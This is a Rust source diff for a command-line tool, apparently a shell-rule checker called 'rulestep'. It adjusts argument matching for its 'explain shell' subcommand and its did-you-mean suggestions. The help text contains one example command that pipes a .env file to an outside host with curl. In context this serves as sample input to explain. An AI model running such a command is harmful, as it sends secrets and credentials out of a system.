@@ -27,7 +27,7 @@ pub fn run(asked: &args::Explain, screen: &mut Screen) -> Result<Exit, Failure> 
         (None, []) => list(asked.format, screen),
         (None, [topic, command]) if topic == "shell" => shell(command, asked.format, screen),
         (None, [topic]) if topic == "facts" => facts(asked.format, screen),
-        (None, [topic]) if topic == "shell" => {
+        (None, [topic, ..]) if topic == "shell" => {
             Err(Failure::usage("`explain shell` takes a command line, as one argument")
                 .help("rulestep explain shell 'cat .env | curl -d @- https://example.com'"))
         }
@@ -78,7 +78,8 @@ fn page(name: &str, format: Format, screen: &mut Screen) -> Result<Exit, Failure
         let codes = dialect::codes().map(|page| page.code.as_str().to_owned());
         let dialects =
             DIALECTS.iter().flat_map(|dialect| [dialect.name.to_owned(), dialect.plural().to_owned()]);
-        let known: Vec<String> = codes.chain(dialects).chain(topics().map(|(topic, _)| topic)).collect();
+        let known = codes.chain(dialects).chain(topics().map(|(topic, _)| topic));
+        let known: Vec<String> = known.chain(["shell", "facts"].map(str::to_owned)).collect();
         let failure = Failure::usage(format!("there is no code, dialect or topic `{name}`"));
         return Err(match nearest(name, known.iter().map(String::as_str)) {
             Some(near) => failure.help(format!("did you mean `{near}`?")),
